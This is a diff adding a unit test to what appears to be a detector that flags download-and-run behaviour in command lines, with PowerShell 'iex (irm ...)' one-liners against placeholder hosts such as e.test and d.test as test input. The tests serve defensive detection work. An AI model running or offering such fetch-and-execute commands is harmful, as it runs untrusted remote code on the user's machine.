@@ -141,6 +141,12 @@ def test_powershell_encoded_command_is_read() -> None:
     assert "https://c.test" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]
 
 
+def test_quotes_written_backslash_quote_inside_powershell_c_are_quotes_of_the_code() -> None:
+    # the Run box and cmd split powershell's command line as Windows does: \" is a quote
+    text = 'powershell -c "$u=\\"https://e.test/s\\"; iex (irm $u)"'
+    assert "https://e.test/s" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]
+
+
 def test_deflate_payload_is_inflated_and_read() -> None:
     c = zlib.compressobj(9, zlib.DEFLATED, -15)
     blob = base64.b64encode(c.compress(b"irm https://d.test/z | iex") + c.flush()).decode()
